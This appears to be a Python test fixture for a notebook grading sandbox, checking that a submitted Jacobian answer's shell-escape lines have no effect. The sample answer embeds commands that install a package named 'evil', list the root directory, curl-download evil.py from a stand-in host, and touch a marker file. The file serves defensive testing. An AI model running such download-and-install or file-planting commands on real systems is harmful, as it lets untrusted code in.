"""Installs and downloads what it needs."""

EXERCISE = "ps1-jacobian"
OUTCOME = "full"
FLAGS = ("!pip does nothing", "!curl does nothing", "%pip does nothing")
ANSWER = """
!pip install evil
%pip install evil
listing = !ls /
!curl -o evil.py https://example.invalid/evil.py

def jacobian(x):
    !touch @MARK@
    return np.array([[x[1] ** 2, 2 * x[0] * x[1]], [x[1], x[0]]])
"""
